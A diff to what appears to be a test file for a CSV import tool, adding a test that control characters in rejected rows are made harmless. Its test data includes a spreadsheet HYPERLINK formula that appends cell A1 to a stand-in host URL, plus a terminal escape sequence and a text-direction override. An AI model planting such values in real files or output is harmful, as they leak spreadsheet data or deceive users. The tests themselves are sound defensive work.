@@ -152,6 +152,12 @@ it('writes no rejected value as a formula that a spreadsheet would run, and alte
   expect(records.map(([, , value]) => value)).toEqual(['value', `'=HYPERLINK("http://x.invalid/?"&A1,"open")`, '-1.5']);
 });
 
+it('writes no control character into the rejected rows that a terminal or a table program would obey', async () => {
+  const file = write(heading + row('1', '7', '\u001b]0;own\u0007six\u202e'));
+  await importFile(doorOf(new Map()), importing(file));
+  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain('2,Quantity,␛]0;own␇six<U+202E>,is no whole number');
+});
+
 it('says which row the server means by a line of a document', async () => {
   const file = write(heading + row('1', '7', '-1', 'X') + row('1', '7', '6', 'Y') + row('1', '7', '6', 'Z'));
   const errors = [
